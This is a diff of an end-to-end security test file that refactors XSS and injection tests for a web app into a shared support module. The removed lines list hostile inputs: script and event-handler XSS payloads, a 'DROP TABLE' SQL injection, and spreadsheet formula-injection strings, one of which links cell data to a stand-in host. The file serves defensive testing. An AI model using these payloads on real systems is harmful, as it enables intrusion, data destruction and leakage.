@@ -1,103 +1,19 @@
 import { join } from 'node:path';
 import pg from 'pg';
-import type { Browser, BrowserContext, Page } from 'playwright-core';
+import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
-import { DEMO_PASSWORD, DEMO_USERS } from '../../server/src/modules/demo/demo-borough.js';
-import { ARTIFACTS, launch, watchForProblems } from '../e2e/browser.js';
+import { ARTIFACTS, launch } from '../e2e/browser.js';
+import { expectEveryInputTyped, gql, NAME, noScriptRan, PAYLOADS, signedIn as signedInWith, signedInAs as signedInAsWith, visit } from './xss-support.js';
 
 /**
  * Hostile text typed into every kind of record is stored exactly as typed and shown as text: no
- * script runs, no markup is interpreted, no SQL is executed. Each payload would set window.__xss if
- * it ran. Which test covers which String input of the schema is listed (and checked against the
- * schema) in xss-coverage.test.ts.
+ * script runs, no markup is interpreted, no SQL is executed.
  */
 const baseUrl = inject('baseUrl');
-const RAN = 'window.__xss=(window.__xss||0)+1';
-const PAYLOADS = {
-  img: `<img src=x onerror="${RAN}">`,
-  script: `<script>${RAN}</script>`,
-  sql: `Robert'); DROP TABLE young_person; --`,
-  attr: `" autofocus onfocus="${RAN}" x="`,
-  svg: `<svg onload="${RAN}">`,
-  js: `javascript:${RAN}`,
-  /** Backslashes, quotes of both kinds, escapes a careless JSON or SQL writer would interpret, and characters beyond ASCII. */
-  text: `C:\\temp\\n \\x3cb\\x3e \\u003c '" Zoë Ångström 😀 名前 ¿`,
-  /** Cells a spreadsheet would run as formulas. */
-  formula: `=HYPERLINK("http://x.invalid/?"&A1,"Open")`,
-  cmd: `=cmd|' /C calc'!A0`,
-  plus: `+1+cmd|' /C calc'!A0`,
-  minus: `-1+cmd|' /C calc'!A0`,
-  at: `@SUM(1+1)*cmd|' /C calc'!A0`,
-};
-const NAME = `${PAYLOADS.img}${PAYLOADS.sql}`;
 let browser: Browser;
 let db: pg.Client;
-
-async function signedIn(role: string): Promise<{ context: BrowserContext; page: Page; problems: string[] }> {
-  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
-  const page = await context.newPage();
-  const problems = watchForProblems(page);
-  // Any dialog would mean a script ran.
-  page.on('dialog', (d) => {
-    problems.push(`dialog: ${d.message()}`);
-    void d.dismiss();
-  });
-  await page.goto(baseUrl);
-  await page.getByLabel('Email address').fill(DEMO_USERS.find((u) => u.role === role)!.email);
-  await page.getByLabel('Password').fill(DEMO_PASSWORD);
-  await page.getByRole('button', { name: 'Sign in' }).click();
-  await page.getByRole('navigation', { name: 'Main' }).waitFor();
-  return { context, page, problems };
-}
-
-async function gql<T>(page: Page, query: string, variables: Record<string, unknown>): Promise<T> {
-  const res = await page.request.post(`${baseUrl}/graphql`, { data: { query, variables }, headers: { 'content-type': 'application/json' } });
-  const body = (await res.json()) as { data: T; errors?: unknown[] };
-  if (body.errors) throw new Error(JSON.stringify(body.errors));
-  return body.data;
-}
-
-/** Elements or attributes a payload would have created had it been parsed as markup. */
-const INJECTED = 'img[src="x"], svg[onload], [onerror], [onfocus], [onload], a[href^="javascript:" i], iframe';
-
-/** No payload ran or became markup: the marker is unset, no element it would make exists, no inline script holds it. */
-async function noScriptRan(page: Page, label = page.url()): Promise<void> {
-  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss), label).toBeUndefined();
-  expect(await page.locator(INJECTED).count(), `${label}: injected markup`).toBe(0);
-  expect(await page.evaluate(() => [...document.scripts].some((s) => s.textContent?.includes('__xss'))), `${label}: a script element`).toBe(false);
-}
-
-/** The page holds each text exactly, as text (not as markup, not only in a form field). */
-async function expectText(page: Page, texts: readonly string[], label = page.url()): Promise<void> {
-  for (const text of texts) {
-    await expect.poll(() => page.evaluate((t) => document.body.textContent?.includes(t) ?? false, text), { message: `${label} shows ${JSON.stringify(text)}`, timeout: 15_000 }).toBe(true);
-  }
-}
-
-/** Opens a page, waits for it to settle, and checks it shows the texts and that nothing ran. */
-async function visit(page: Page, path: string, texts: readonly string[]): Promise<void> {
-  await page.goto(`${baseUrl}${path}`);
-  await page.getByRole('heading', { level: 1 }).first().waitFor();
-  await expectText(page, texts, path);
-  await page.waitForLoadState('networkidle');
-  await noScriptRan(page, path);
-}
-
-/** A user who is not one of the demo borough's: signs in with the temporary password and chooses a new one. */
-async function signedInAs(email: string, temporaryPassword: string): Promise<{ context: BrowserContext; page: Page; problems: string[] }> {
-  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
-  const page = await context.newPage();
-  const problems = watchForProblems(page);
-  page.on('dialog', (d) => {
-    problems.push(`dialog: ${d.message()}`);
-    void d.dismiss();
-  });
-  await gql(page, `mutation($i: SignInInput!) { signIn(input: $i) { id } }`, { i: { email, password: temporaryPassword } });
-  await gql(page, `mutation($i: ChangePasswordInput!) { changePassword(input: $i) { id } }`, { i: { currentPassword: temporaryPassword, newPassword: `${DEMO_PASSWORD}-xss-Zq9` } });
-  await page.goto(baseUrl);
-  await page.getByRole('navigation', { name: 'Main' }).waitFor();
-  return { context, page, problems };
-}
+const signedIn = (role: string) => signedInWith(browser, role);
+const signedInAs = (email: string, temporaryPassword: string) => signedInAsWith(browser, email, temporaryPassword);
 
 beforeAll(async () => {
   browser = await launch();
@@ -105,6 +21,7 @@ beforeAll(async () => {
   await db.connect();
 });
 afterAll(async () => {
+  expectEveryInputTyped('xss.e2e.ts');
   await db.end();
   await browser.close();
 });
